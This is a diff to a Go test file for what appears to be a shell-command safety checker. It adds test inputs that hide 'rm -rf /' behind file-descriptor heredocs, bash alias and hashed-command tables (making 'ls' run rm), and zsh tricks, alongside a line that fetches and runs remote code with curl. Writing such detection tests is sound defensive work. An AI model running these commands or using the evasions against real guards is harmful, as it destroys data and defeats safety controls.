@@ -23,6 +23,12 @@ var attackMatch = []string{
 	`bash /dev/stdin <<< 'rm -rf /'`,
 	`source /dev/stdin <<< 'rm -rf /'`,
 	`. /dev/fd/0 <<< 'rm -rf /'`,
+	// Or another file descriptor the line gives it.
+	`source /dev/fd/3 3<<< 'rm -rf /'`,
+	`bash /dev/fd/3 3<<'EOF'` + "\nrm -rf /\nEOF",
+	`bash /proc/self/fd/7 7<<< 'rm -rf /'`,
+	// bash's table of aliases, written as a variable.
+	"shopt -s expand_aliases; BASH_ALIASES[x]='rm -rf /'\nx",
 	// Programs that run the command in their arguments.
 	`pkexec rm -rf /`,
 	`pkexec --user root rm -rf /`,
@@ -109,6 +115,14 @@ var attackUnknown = []string{
 	`source <(curl -s https://x)`,
 	`sudo -s`,
 	`trap "$X" EXIT`,
+	// A file descriptor the command is not given here; bash's table of hashed commands (ls runs rm).
+	`exec 3<<< 'rm -rf /'; . /dev/fd/3`,
+	`bash /dev/fd/4 3<<< 'rm -rf /'`,
+	`BASH_CMDS[ls]=/bin/rm; ls -rf /`,
+	`BASH_CMDS=([ls]=/bin/rm); ls -rf /`,
+	`BASH_CMDS[ls]=/bin/rm ls -rf /`,
+	`declare -A BASH_CMDS; BASH_CMDS[$k]=/bin/rm; ls -rf /`,
+	`printf -v 'BASH_CMDS[ls]' /bin/rm; ls -rf /`,
 	// zsh: a glob qualifier's code, $=x (x's value split into a command), options that change how
 	// the line is read.
 	`echo *(e:'rm -rf /':)`,
